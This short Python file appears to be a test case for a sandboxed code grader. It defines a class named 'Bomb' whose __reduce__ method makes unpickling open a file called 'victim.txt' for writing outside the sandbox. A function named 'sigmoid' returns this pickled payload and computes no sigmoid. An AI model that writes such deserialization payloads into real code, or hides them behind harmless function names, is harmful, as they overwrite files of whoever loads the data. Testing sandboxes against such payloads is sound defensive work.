# failed
import pickle


class Bomb:
    def __reduce__(self):
        return (open, ("@OUTSIDE@/victim.txt", "w"))


def sigmoid(z):
    return pickle.dumps(Bomb())
